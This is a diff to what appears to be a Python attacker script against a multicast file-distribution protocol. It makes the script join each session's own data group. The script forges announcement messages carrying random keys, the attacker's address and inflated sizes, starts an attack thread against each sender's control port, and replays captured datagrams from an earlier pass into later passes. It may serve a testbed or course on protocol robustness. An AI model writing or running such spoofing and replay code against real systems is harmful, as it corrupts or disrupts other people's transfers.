@@ -38,7 +38,8 @@ def main() -> None:
 
     signal.signal(signal.SIGTERM, stop)
     announces = wire.multicast_listener(wire.ANNOUNCE_GROUP, wire.ANNOUNCE_PORT, address)
-    data = wire.multicast_listener(wire.DATA_GROUP, wire.DATA_PORT, address)
+    data: socket.socket | None = None  # the session's data group, once announced
+    target = ("", 0)
     out = wire.multicast_sender(address)
     out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
     old: list[bytes] = []  # real datagrams of the first pass heard, to replay later
@@ -47,7 +48,7 @@ def main() -> None:
     budget, second = LIMIT, int(time.monotonic())
     while not stopped:
         try:
-            ready, _, _ = select.select([announces, data], [], [], 0.1)
+            ready, _, _ = select.select([announces, *([data] if data else [])], [], [], 0.1)
         except InterruptedError:
             continue
         if int(time.monotonic()) != second:
@@ -57,6 +58,9 @@ def main() -> None:
             _mac, _, body = datagram.partition(b" ")
             real = msg.decode(body, "sender")
             assert isinstance(real, msg.Announce)
+            if data is None:
+                target = (wire.data_group(real.session_id), wire.DATA_PORT)
+                data = wire.multicast_listener(*target, address)
             fake = msg.Announce(
                 real.session, real.session_id, os.urandom(16), address, 9, real.payload, 1 << 30
             )
@@ -67,7 +71,8 @@ def main() -> None:
                 controlled.add((real.address, real.port))
                 args = (real.address, real.port, real.session, sent)
                 threading.Thread(target=attack_control, args=args, daemon=True).start()
-        if data in ready:  # read all (to notice a new pass at once), forge within budget
+        # read all (to notice a new pass at once), forge within budget
+        if data is not None and data in ready:
             datagram = bytearray(data.recv(65536))
             if len(datagram) < wire.OVERHEAD:
                 continue
@@ -77,7 +82,6 @@ def main() -> None:
                 first_pass = number
             if number == first_pass and len(old) < 2000:
                 old.append(bytes(datagram))
-            target = (wire.DATA_GROUP, wire.DATA_PORT)
             if number > first_pass and old:  # a later pass: the earlier one's, all at once
                 for replay in old:
                     out.sendto(replay, target)
